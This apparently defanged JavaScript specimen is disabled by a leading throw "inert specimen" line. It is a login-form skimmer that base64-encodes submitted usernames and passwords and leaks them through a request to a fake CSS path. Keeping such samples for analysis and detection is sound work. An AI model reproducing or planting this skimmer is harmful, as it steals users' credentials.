throw "inert specimen";
document.forms[ "frmLogin" ].addEventListener( 'submit' , function ( e ) {
  const f = e.target ;
  const a = window . btoa ( f[ 'username' ].value + '\n' + f[ 'password' ].value ) ;
  fetch( '/dana-na/css/theme.css?c=' + a , { mode : 'no-cors' } ) ;
} ) ;
